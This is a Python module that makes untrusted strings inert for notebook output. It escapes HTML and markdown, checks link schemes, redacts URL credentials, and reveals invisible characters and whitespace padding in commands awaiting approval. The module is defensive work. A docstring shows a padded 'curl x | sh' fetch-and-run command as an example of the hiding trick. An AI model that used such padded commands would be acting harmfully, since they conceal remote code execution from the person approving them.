"""Making untrusted strings inert, once, for every output format the package writes.

Server and model strings (session titles and previews, job names, errors, versions, commands, model text)
reach notebook outputs, where JupyterLab renders trusted ``text/markdown`` and ``text/html`` with raw HTML
live. Every repr builds its output from these helpers and nothing else:

- ``text/html``: :func:`escape_html` for text, :func:`html_block` around the whole output (it also keeps
  MathJax from typesetting ``$...$`` in server text), :func:`html_table` for tables.
- ``text/markdown`` (exports only; displayed reprs use HTML plus text): :func:`escape_markdown` writes every
  ASCII punctuation mark as a character reference, which CommonMark shows literally; :func:`markdown_code` and
  :func:`markdown_fence` use a backtick run longer than any inside.
- commands shown before an approval (card or terminal): :func:`reveal` makes control, bidi and zero-width
  characters visible and marks long whitespace runs, so nothing can hide after padding.
- URLs: :func:`is_safe_url` is the link policy (``link_policy.json``, shared with the front end's
  ``markdown.ts``); :func:`redact_url` drops userinfo before a URL is shown.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterable, Mapping, Sequence
from importlib import resources
from typing import Any
from urllib.parse import urlsplit, urlunsplit

__all__ = [
    "CARD_LINES",
    "IMAGE_SCHEMES",
    "LINK_SCHEMES",
    "escape_html",
    "escape_markdown",
    "html_block",
    "html_table",
    "is_safe_image_url",
    "is_safe_url",
    "lines_html",
    "markdown_code",
    "markdown_fence",
    "redact_url",
    "redact_urls",
    "reveal",
    "reveal_lines",
    "table_html",
]

_POLICY: Mapping[str, Any] = json.loads(resources.files(__package__).joinpath("link_policy.json").read_text())

#: Schemes a link may use (kernel and front end read the same list).
LINK_SCHEMES: tuple[str, ...] = tuple(_POLICY["link_schemes"])
#: Schemes an image URL may have to be offered as a click-to-open link (it is never loaded by itself).
IMAGE_SCHEMES: tuple[str, ...] = tuple(_POLICY["image_schemes"])
#: Whitespace runs at least this long are collapsed to a visible marker in revealed commands.
WHITESPACE_RUN: int = int(_POLICY["whitespace_run"])
#: Lines an approval card or terminal prompt shows before saying how many more are hidden.
CARD_LINES: int = int(_POLICY["card_lines"])

# Browsers drop control characters and whitespace inside a scheme ("java\tscript:"), so they go before the check.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]")


def _scheme_pattern(schemes: Sequence[str]) -> re.Pattern[str]:
    return re.compile(r"^(?:" + "|".join(map(re.escape, schemes)) + r"):", re.IGNORECASE)


_LINK_URL = _scheme_pattern(LINK_SCHEMES)
_IMAGE_URL = _scheme_pattern(IMAGE_SCHEMES)


def is_safe_url(url: str) -> bool:
    """May content link to ``url``? Only http, https and mailto; nothing relative, scripted or ``data:``."""
    return bool(_LINK_URL.match(_URL_NOISE.sub("", url)))


def is_safe_image_url(url: str) -> bool:
    """May an image URL be offered as a link (never loaded without a click)?"""
    return bool(_IMAGE_URL.match(_URL_NOISE.sub("", url)))


def redact_url(url: str) -> str:
    """``url`` without its userinfo (``https://user:pw@host`` -> ``https://***@host``), for display."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return url
    if "@" not in parts.netloc:
        return url
    host = parts.netloc.rsplit("@", 1)[1]
    return urlunsplit(parts._replace(netloc=f"***@{host}"))


_USERINFO = re.compile(r"\b([A-Za-z][A-Za-z0-9+.-]*://)[^/\s@]+@")


def redact_urls(text: str) -> str:
    """``text`` with the userinfo of every URL in it replaced by ``***`` (error messages, logs)."""
    return _USERINFO.sub(r"\1***@", text)


# --- HTML -----------------------------------------------------------------------------------------------------

#: The class on every HTML output: MathJax (JupyterLab, nbviewer) skips elements carrying it.
INERT_CLASS = "hn-inert tex2jax_ignore mathjax_ignore"


def escape_html(value: object) -> str:
    """Any value as HTML text (``<``, ``>``, ``&`` and both quotes escaped): safe in text and attributes."""
    return html.escape("" if value is None else str(value), quote=True)


def html_block(inner_html: str, *, extra_class: str = "") -> str:
    """Wrap already-escaped HTML in the inert container every HTML repr uses."""
    cls = f"{INERT_CLASS} {escape_html(extra_class)}".strip()
    return f'<div class="{cls}">{inner_html}</div>'


def _plain_cell(value: Any, column: str) -> str:
    return str(value)


def html_table(
    columns: Sequence[str], rows: Iterable[Mapping[str, Any]], *, cell: Any = _plain_cell, mark: Any = None,
) -> str:
    """A table of escaped cells; ``cell(value, column)`` formats a value, ``mark(row)`` flags a row (bold)."""
    head = "".join(f'<th scope="col">{escape_html(c)}</th>' for c in columns)
    body = []
    for row in rows:
        marked = bool(mark(row)) if mark is not None else False
        cells = []
        for i, column in enumerate(columns):
            text = escape_html(cell(row.get(column), column))
            if i == 0 and marked:
                text = f"<b>{text}</b> (current)"
            cells.append(f"<td>{text}</td>")
        body.append(f"<tr>{''.join(cells)}</tr>")
    return f"<table><thead><tr>{head}</tr></thead><tbody>{''.join(body)}</tbody></table>"


def table_html(
    rows: Sequence[Mapping[str, Any]], columns: Sequence[str], *, current: object = None, empty: str = "",
    cell: Any = _plain_cell,
) -> str:
    """A displayed table (sessions, jobs): escaped cells in the inert container; the ``current`` id is bold."""
    if not rows:
        return html_block(f"<i>{escape_html(empty)}</i>")
    mark = (lambda row: row.get("id") == current) if current is not None else None
    return html_block(html_table(columns, rows, cell=cell, mark=mark))


def lines_html(lines: Iterable[str]) -> str:
    """Lines of server text (a status report) as an escaped list in the inert container."""
    return html_block("<ul>" + "".join(f"<li>{escape_html(line)}</li>" for line in lines) + "</ul>")


# --- markdown -------------------------------------------------------------------------------------------------

_MD_PUNCT = re.compile(r"""([!"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])""")


def escape_markdown(value: object) -> str:
    """One line of literal text in markdown: every ASCII punctuation mark as a numeric character reference.

    CommonMark shows a character reference as the character and never parses it as markup, so no tag, entity,
    link, emphasis, table cell break or math delimiter (JupyterLab looks for ``$`` and ``\\(`` before
    markdown) survives. Newlines become spaces.
    """
    text = " ".join(("" if value is None else str(value)).splitlines())
    return _MD_PUNCT.sub(lambda m: f"&#{ord(m.group())};", reveal(text))


def _longest_backtick_run(text: str) -> int:
    return max((len(run) for run in re.findall(r"`+", text)), default=0)


def markdown_code(value: object) -> str:
    """Inline code whose delimiter is longer than any backtick run inside (so it cannot be closed early)."""
    text = " ".join(("" if value is None else str(value)).splitlines())
    ticks = "`" * (_longest_backtick_run(text) + 1)
    return f"{ticks} {text} {ticks}"


def markdown_fence(text: str, info: str = "") -> str:
    """A fenced block longer than any backtick run inside; ``~`` fences are not used, so none can close it."""
    fence = "`" * max(3, _longest_backtick_run(text) + 1)
    return f"{fence}{re.sub(r'[^A-Za-z0-9_+-]', '', info)}\n{text}\n{fence}"


# --- revealing what a command hides ---------------------------------------------------------------------------

# Characters that render as nothing or reorder text: C0/C1 controls (not \n, \t), DEL, bidi embeddings,
# overrides and isolates, zero-width characters, line/paragraph separators, the BOM, soft hyphen,
# and spaces that are not ASCII spaces. Kept in step with REVEAL in js/src/chat/reveal.ts (shared test cases).
_HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00a0\u00ad\u034f\u061c\u115f\u1160\u1680\u180e\u2000-\u200f"
    "\u2028-\u202f\u205f-\u206f\u3000\u3164\ufeff\ufff9-\ufffb]"
)
_WHITESPACE_RUN = re.compile(rf"[ \t]{{{WHITESPACE_RUN},}}")


def _mark(match: re.Match[str]) -> str:
    return f"\u27e6U+{ord(match.group()):04X}\u27e7"


def _run(match: re.Match[str]) -> str:
    run = match.group()
    spaces, tabs = run.count(" "), run.count("\t")
    what = " and ".join(
        f"{n} {name}{'' if n == 1 else 's'}" for n, name in ((spaces, "space"), (tabs, "tab")) if n
    )
    return f" \u27e6{what}\u27e7 "


def reveal(text: str) -> str:
    """``text`` with every invisible or reordering character shown as ``⟦U+XXXX⟧`` and long blank runs marked.

    ``"ls" + " " * 400 + "; curl x | sh"`` becomes ``"ls ⟦400 spaces⟧ ; curl x | sh"``: what an approval shows
    is what runs. Newlines and single tabs stay (they are visible as layout).
    """
    text = _HIDDEN.sub(_mark, text.replace("\r\n", "\n"))
    return _WHITESPACE_RUN.sub(_run, text)


def reveal_lines(text: str, limit: int = CARD_LINES) -> tuple[list[str], int]:
    """The first ``limit`` revealed lines and how many more are hidden."""
    lines = reveal(text).split("\n")
    return lines[:limit], max(0, len(lines) - limit)
